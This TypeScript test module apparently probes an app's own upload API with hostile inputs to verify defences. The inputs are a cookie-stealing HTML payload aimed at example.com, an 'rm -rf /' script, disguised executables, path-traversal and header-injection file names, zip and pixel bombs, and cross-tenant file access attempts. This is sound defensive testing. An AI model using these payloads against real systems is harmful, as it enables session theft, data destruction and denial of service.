import { createHash, randomBytes } from 'node:crypto';
import { readdirSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { attachmentCalls } from '../../../src/api/app/attachment.ts';
import { dataImportCalls } from '../../../src/api/app/data-import.ts';
import { deflatedZeros, zipOf } from '../../../tests/kit/zip.ts';
import type { Person } from '../../../tests/setup/test-bed.ts';
import type { Attack, Finding } from '../attack.ts';
import { makeAttacked } from '../companies.ts';
import { waitedDuring } from '../delay.ts';

type Purpose = 'lease' | 'data_import';
interface Sent {
  id: number;
  /** Progress of the last step: of the finish, if it came to that. */
  status: number;
  refusal: string | null;
}
const octets = { 'content-type': 'application/octet-stream' };
const chunk = 4 * 1024 * 1024;

/** Uploads bytes under a name, as a client does. */
async function upload(person: Person, name: string, content: Buffer, for_entity: Purpose = 'lease'): Promise<Sent> {
  const made = await person.ask(attachmentCalls.create, { body: { name, size: content.length, for_entity } });
  if (made.status !== 200) return { id: 0, status: made.status, refusal: String(made.body.code) };
  const { id } = made.body.data as { id: number };
  for (let at = 0; at < content.length; at += chunk) {
    const route = `/v2/attachments/${id}/content?offset=${at}`;
    const { status } = await person.raw('PUT', route, content.subarray(at, at + chunk), octets);
    if (status !== 200) return { id, status, refusal: null };
  }
  const { status, body } = await person.ask(attachmentCalls.finish, { params: { id } });
  return { id, status, refusal: (body.data as { refusal?: string } | undefined)?.refusal ?? (status === 200 ? null : 'refused') };
}

const pdf = () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(2000)]);
const html = '<html><script>document.location="https://example.com/"+document.cookie</script></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';

/** A PNG that says it is so many pixels wide and high, and holds next to nothing. */
async function pixelBomb(side: number): Promise<Buffer> {
  const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
    .png()
    .toBuffer();
  png.writeUInt32BE(side, 16);
  png.writeUInt32BE(side, 20);
  return png;
}

/** Files that are no document, whatever they are called. */
const wrong: [string, Buffer][] = [
  ['page.html', Buffer.from(html)],
  ['page.pdf', Buffer.from(html)],
  ['picture.png', Buffer.from(svg)],
  ['picture.svg', Buffer.from(svg)],
  ['program.exe', Buffer.concat([Buffer.from('MZ'), randomBytes(4000)])],
  ['program.pdf', Buffer.concat([Buffer.from('\x7fELF'), randomBytes(4000)])],
  ['script.pdf', Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['nothing.pdf', Buffer.from('\0')],
  ['archive.pdf', zipOf([{ name: '../../etc/passwd', compressed: Buffer.alloc(0), declared: 0 }])],
];
/** Names that would be a place on a disk, or a header. */
const names = [
  '../../../../etc/passwd.pdf',
  '..\\..\\windows\\win.ini.pdf',
  '/etc/cron.d/x.pdf',
  'a\r\nset-cookie: x=1.pdf',
  'a";filename="b.html',
  '%2e%2e%2fx.pdf',
  `${'x'.repeat(190)}.pdf`,
  'con.pdf',
  '‮fdp.exe.pdf',
];

export const attack: Attack = {
  title: 'Files: types, names, bombs and others’ files',
  run: async (bed): Promise<Finding[]> => {
    const target = await bed.bare({ LOG_LEVEL: 'silent' });
    const companies = await makeAttacked(target);
    try {
      const [me, other] = [
        await companies.signIn('first', 'admin@first.example'),
        await companies.signIn('second', 'admin@second.example'),
      ];
      const findings: Finding[] = [];
      const add = (what: string, figure: string, limit: string, passed: boolean) =>
        findings.push({ what, figure, limit, passed });
      const read = (id: number, who = me, as = 'file') => who.raw('GET', `/v2/attachments/${id}/content?as=${as}`);
      const headersOf = async (id: number) => {
        const answer = await fetch(`${target.address}/v2/attachments/${id}/content?as=file`, {
          headers: { 'company-slug': me.slug, 'auth-token': me.token },
        });
        await answer.arrayBuffer();
        return answer;
      };

      const taken: string[] = [];
      for (const [name, content] of wrong) {
        const sent = await upload(me, name, content);
        if (sent.status === 200 && !sent.refusal) taken.push(name);
      }
      add('files that are no documents, taken', `${taken.length} of ${wrong.length}; ${taken.join(', ')}`, '0', !taken.length);

      // A document and a page in one: it may be kept, if nobody's browser ever takes it for the page.
      const polyglots = [
        ['both.pdf', Buffer.concat([Buffer.from(`%PDF-1.7\n${html}`), randomBytes(100)])],
        ['both.html', Buffer.concat([Buffer.from(`%PDF-1.7\n${html}`), randomBytes(100)])],
        ['both.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(html)])],
      ] as const;
      const ran: string[] = [];
      let both = 0;
      for (const [name, content] of polyglots) {
        const sent = await upload(me, name, content);
        if (sent.status !== 200 || sent.refusal) continue;
        both += 1;
        const { headers } = await headersOf(sent.id);
        const isSafe =
          /^attachment\b|^inline\b/.test(headers.get('content-disposition') ?? '') &&
          headers.get('x-content-type-options') === 'nosniff' &&
          !/html|svg|xml/.test(headers.get('content-type') ?? '') &&
          /sandbox|default-src 'none'/.test(headers.get('content-security-policy') ?? '');
        if (!isSafe) ran.push(`${name}: ${headers.get('content-type')}, ${headers.get('content-security-policy')}`);
      }
      add(
        'documents that are pages, too, given out so that they run',
        `${ran.length} of ${both} that were taken; ${ran.join('; ')}`,
        '0 of at least 1',
        !ran.length && both > 0,
      );

      const odd: string[] = [];
      let stored = 0;
      for (const name of names) {
        const sent = await upload(me, name, pdf());
        if (sent.status >= 500) odd.push(`${JSON.stringify(name)}: ${sent.status}`);
        if (sent.status !== 200 || sent.refusal) continue;
        stored += 1;
        const { headers, status } = await headersOf(sent.id);
        const disposition = headers.get('content-disposition') ?? '';
        if (status !== 200 || headers.get('set-cookie') || /filename="[^"]*[/\\]|filename="[^"]*html"/.test(disposition))
          odd.push(`${JSON.stringify(name)}: ${disposition}`);
      }
      const strays = readdirSync(path.join(target.dataDir, 'files'), { recursive: true, encoding: 'utf8' }).filter((file) =>
        /passwd|win\.ini|cron|set-cookie|\.exe/.test(file),
      );
      add(
        'names that became a place or a header',
        `${odd.length + strays.length} of ${names.length}, ${stored} stored; ${[...odd, ...strays].join('; ')}`,
        '0 of at least 5 stored',
        !odd.length && !strays.length && stored >= 5,
      );

      const bomb = zipOf([
        { name: '[Content_Types].xml', compressed: deflatedZeros(8), declared: 8 * 1024 * 1024 },
        { name: 'xl/workbook.xml', compressed: deflatedZeros(1024), declared: 10 },
      ]);
      const blow = await waitedDuring(target, async () => {
        const sent = await upload(me, 'bomb.xlsx', bomb, 'data_import');
        if (sent.status !== 200 || sent.refusal) return `refused: ${sent.refusal ?? sent.status}`;
        const begun = await me.ask(dataImportCalls.leads, { body: { attachment_id: sent.id } });
        if (begun.status !== 200) return `refused: ${begun.status}`;
        const { id } = begun.body.data as { id: number };
        for (let i = 0; i < 120; i++) {
          const { status } = (await me.ask(dataImportCalls.get, { params: { id } })).body.data as { status: string };
          if (!['reading', 'uploaded', 'queued'].includes(status)) return status;
          await new Promise((resolve) => setTimeout(resolve, 500));
        }
        return 'still reading after a minute';
      });
      add(
        `a workbook of ${(bomb.length / 1e6).toFixed(1)} MB that unpacks to a gigabyte; another company waits at most`,
        `${blow.result}, ${blow.longest.toFixed(0)} ms`,
        'refused or failed; 1500 ms',
        /refused|fail/.test(blow.result) && blow.longest < 1_500,
      );

      const pixels = await waitedDuring(target, async () => {
        const said: string[] = [];
        for (const side of [20_000, 60_000, 2 ** 31 - 1]) {
          const sent = await upload(me, `${side}.png`, await pixelBomb(side));
          // A head that no decoder believes says nothing: such a file is kept as bytes, of which nothing is ever made.
          const made = sent.status === 200 && !sent.refusal ? (await read(sent.id, me, 'preview')).status : 0;
          said.push(made ? `kept as bytes, preview ${made}` : (sent.refusal ?? String(sent.status)));
        }
        return said;
      });
      add(
        'images of 400 million pixels and more; another company waits at most',
        `${pixels.result.join(', ')}; ${pixels.longest.toFixed(0)} ms`,
        'no preview made; 1500 ms',
        !pixels.result.some((one) => /preview (200|5)/.test(one)) && pixels.longest < 1_500,
      );

      const secret = pdf();
      const theirs = await upload(other, 'theirs.pdf', secret);
      const reached: string[] = [];
      const tries: [string, () => Promise<{ status: number }>][] = [
        ['get', () => me.ask(attachmentCalls.get, { params: { id: theirs.id } })],
        ['file', () => read(theirs.id)],
        ['preview', () => read(theirs.id, me, 'preview')],
        ['overwrite', () => me.raw('PUT', `/v2/attachments/${theirs.id}/content?offset=0`, Buffer.from('x'), octets)],
        ['finish', () => me.ask(attachmentCalls.finish, { params: { id: theirs.id } })],
        ['remove', () => me.ask(attachmentCalls.remove, { params: { id: theirs.id } })],
        ['import', () => me.ask(dataImportCalls.leads, { body: { attachment_id: theirs.id } })],
      ];
      for (const [what, act] of tries) {
        const { status } = await act();
        if (![403, 404, 422].includes(status)) reached.push(`${what}: ${status}`);
      }
      const after = await fetch(`${target.address}/v2/attachments/${theirs.id}/content?as=file`, {
        headers: { 'company-slug': other.slug, 'auth-token': other.token },
      });
      const hash = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
      const isWhole = hash(Buffer.from(await after.arrayBuffer())) === hash(secret);
      add(
        'another company’s file, tried',
        `${reached.length} of ${tries.length} ways; ${reached.join(', ')}${isWhole ? 'the file is as it was' : 'the file is another'}`,
        '0 ways, as it was',
        !reached.length && isWhole,
      );
      return findings;
    } finally {
      await companies.close();
    }
  },
};
